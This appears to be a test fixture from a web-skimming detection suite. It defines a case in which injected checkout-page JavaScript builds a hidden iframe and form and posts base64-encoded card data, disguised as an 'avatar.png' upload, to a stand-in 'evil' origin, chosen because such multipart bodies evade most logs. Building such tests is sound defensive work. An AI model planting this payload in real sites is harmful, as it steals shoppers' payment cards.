import { holds, js, skimmer } from '../behaviour.ts';
import { at, base64 } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'multipart-hidden-iframe',
  why: 'A hidden form with a file in it, posted into a hidden frame: the body is multipart, and most logs leave such bodies out.',
  covers: ['sending: hidden form', 'hard: unusual channel'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var frame = document.createElement('iframe'), form = document.createElement('form'), input = document.createElement('input'), files = new DataTransfer();
    frame.name = '_f'; frame.style.display = form.style.display = 'none';
    form.action = '${site.origins.evil}/upload'; form.method = 'post'; form.enctype = 'multipart/form-data'; form.target = '_f';
    files.items.add(new File([btoa(card())], 'avatar.png', { type: 'image/png' }));
    input.type = 'file'; input.name = 'f'; input.files = files.files;
    form.append(input); document.body.append(frame, form);
    form.submit();`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'evil', '/upload').map(({ body }) =>
      base64(/\r\n\r\n([\w+/=]+)\r\n/.exec(body.toString())?.[1] ?? ''),
    ),
  ),
});
